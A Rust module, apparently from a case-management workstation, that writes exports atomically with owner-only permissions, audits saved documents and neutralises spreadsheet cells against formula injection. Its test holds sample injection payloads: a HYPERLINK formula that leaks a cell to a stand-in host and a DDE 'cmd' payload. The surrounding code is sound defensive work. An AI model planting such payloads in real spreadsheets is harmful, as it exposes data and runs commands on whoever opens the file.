//! Files that leave the store: issued documents a clerk saves, the
//! statistics and the trainers' results.
//!
//! An export is written as a whole or not at all (a temporary file in the
//! same folder, synced, then renamed), readable by the workstation's own
//! account only (0600, in a folder made 0700). Saving an issued document
//! is audited ([`record_saved_document`]): who, which case, which document
//! number and the file name. Every spreadsheet cell goes through
//! [`neutralise_cell`], so a value typed at the window (a name, a reason)
//! can never become a formula in the spreadsheet that opens the file.
//!
//! This module must never put applicant data (names, ID numbers, phones)
//! into an audit entry, and never leave half an export under a real name.

use std::borrow::Cow;
use std::io::Write;
use std::path::{Path, PathBuf};

use chrono::{DateTime, FixedOffset};
use rusqlite::{params, Connection, OptionalExtension};
use serde_json::json;

use crate::audit;
use crate::cases::Actor;
use crate::error::CacheError;
use crate::store::{CaseStore, StoreMode};

/// A spreadsheet cell made safe to open (CSV injection, as OWASP
/// describes it): a cell that starts with `=`, `+`, `-`, `@`, a tab or a
/// carriage return gets a leading `'`, so spreadsheets show it as text and
/// never run it as a formula. Every other cell is returned as it is.
pub fn neutralise_cell(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// An export written to a temporary file beside its final name (0600,
/// synced), not yet visible under that name: [`StagedExport::publish`]
/// renames it into place; dropping it removes it.
pub struct StagedExport {
    temporary: tempfile::NamedTempFile,
    path: PathBuf,
}

fn io_error(path: &Path, error: &std::io::Error) -> CacheError {
    CacheError::Io {
        path: path.to_path_buf(),
        detail: error.to_string(),
    }
}

/// Writes `bytes` for `path` to a temporary file in the same folder (made
/// 0700 if it does not exist yet), readable by this account only.
pub fn stage(path: &Path, bytes: &[u8]) -> Result<StagedExport, CacheError> {
    let folder = path.parent().unwrap_or_else(|| Path::new("."));
    let io = |error: std::io::Error| io_error(path, &error);
    if !folder.is_dir() {
        let mut builder = std::fs::DirBuilder::new();
        builder.recursive(true);
        #[cfg(unix)]
        std::os::unix::fs::DirBuilderExt::mode(&mut builder, 0o700);
        builder.create(folder).map_err(io)?;
    }
    let mut temporary = tempfile::Builder::new()
        .prefix(".export-")
        .tempfile_in(folder)
        .map_err(io)?;
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        temporary
            .as_file()
            .set_permissions(std::fs::Permissions::from_mode(0o600))
            .map_err(io)?;
    }
    temporary.write_all(bytes).map_err(io)?;
    temporary.as_file().sync_all().map_err(io)?;
    Ok(StagedExport {
        temporary,
        path: path.to_path_buf(),
    })
}

impl StagedExport {
    /// Renames the export into place (replacing an older file of that name).
    pub fn publish(self) -> Result<PathBuf, CacheError> {
        let path = self.path;
        self.temporary
            .persist(&path)
            .map_err(|error| io_error(&path, &error.error))?;
        Ok(path)
    }
}

/// Writes an export whole: [`stage`], then [`StagedExport::publish`].
pub fn write_private(path: &Path, bytes: &[u8]) -> Result<PathBuf, CacheError> {
    stage(path, bytes)?.publish()
}

/// Records in the audit chain that `actor` saved document `number` of
/// `case_id` as `file_name` (a name made from the document number; never
/// applicant data). The document must be one the case has.
pub fn record_saved_document(
    connection: &mut Connection,
    case_id: &str,
    number: &str,
    file_name: &str,
    actor: &Actor,
    at: DateTime<FixedOffset>,
) -> Result<(), CacheError> {
    let transaction =
        connection.transaction_with_behavior(rusqlite::TransactionBehavior::Immediate)?;
    let known: Option<i64> = transaction
        .query_row(
            "SELECT 1 FROM documents WHERE case_id = ?1 AND document_number = ?2 AND content_sha256 <> ''",
            params![case_id, number],
            |row| row.get(0),
        )
        .optional()?;
    if known.is_none() {
        return Err(CacheError::BadInput(format!(
            "case {case_id} has no document numbered {number}"
        )));
    }
    audit::append(
        &transaction,
        &at.to_rfc3339(),
        &actor.user_id,
        "document.saved",
        case_id,
        &json!({ "number": number, "file": file_name, "role": actor.role.as_str() }),
    )?;
    transaction.commit()?;
    Ok(())
}

impl<M: StoreMode> CaseStore<M> {
    /// [`record_saved_document`] on the writer thread.
    pub async fn record_saved_document(
        &self,
        case_id: String,
        number: String,
        file_name: String,
        actor: Actor,
        at: DateTime<FixedOffset>,
    ) -> Result<(), CacheError> {
        self.write(move |connection| {
            record_saved_document(connection, &case_id, &number, &file_name, &actor, at)
        })
        .await
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_a_spreadsheet_would_run_are_made_text() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
        ] {
            let safe = neutralise_cell(cell);
            assert_eq!(safe, format!("'{cell}"), "{cell:?}");
        }
        for cell in ["周明", "90", "1/2", "", "a=b", " =1", "'quoted"] {
            assert!(
                matches!(neutralise_cell(cell), Cow::Borrowed(text) if text == cell),
                "{cell:?} is left alone"
            );
        }
    }

    #[cfg(unix)]
    #[test]
    fn an_export_is_written_whole_and_only_for_this_account() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("exports").join("a.pdf");
        let staged = stage(&path, b"%PDF-1.7 first").unwrap();
        assert!(!path.exists(), "nothing under the real name before publish");
        staged.publish().unwrap();
        assert_eq!(std::fs::read(&path).unwrap(), b"%PDF-1.7 first");
        let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&path), 0o600);
        assert_eq!(mode(&dir.path().join("exports")), 0o700);
        // A staged export that is dropped leaves nothing behind, and the
        // file already there stays whole.
        drop(stage(&path, b"second").unwrap());
        assert_eq!(std::fs::read(&path).unwrap(), b"%PDF-1.7 first");
        assert_eq!(
            std::fs::read_dir(dir.path().join("exports"))
                .unwrap()
                .count(),
            1
        );
        write_private(&path, b"third").unwrap();
        assert_eq!(std::fs::read(&path).unwrap(), b"third");
        assert_eq!(mode(&path), 0o600);
    }
}
